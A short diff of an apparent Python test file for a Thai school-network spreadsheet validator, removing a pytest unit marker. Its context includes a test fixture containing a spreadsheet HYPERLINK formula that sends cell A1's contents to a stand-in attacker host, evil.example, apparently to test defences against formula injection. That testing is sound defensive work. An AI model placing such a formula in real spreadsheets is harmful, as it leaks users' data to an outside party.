@@ -36,8 +36,6 @@ from schoolnet.validation import validate_sheet
 from schoolnet.warehouse import EsaDay, merge_day
 from schoolnet.warehouse.models import FindingRow, SnapshotRow
 
-pytestmark = pytest.mark.unit
-
 HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"คลิก")'
 TEST_ESA = Esa("109901", "สพป.ทดสอบ เขต 1", "primary", "ลำปาง", "sheet-test", "t@example.org")
 LINKED, SUMMED, SPACED, WIDE, CONTROL = (f"109901000{i}" for i in range(1, 6))
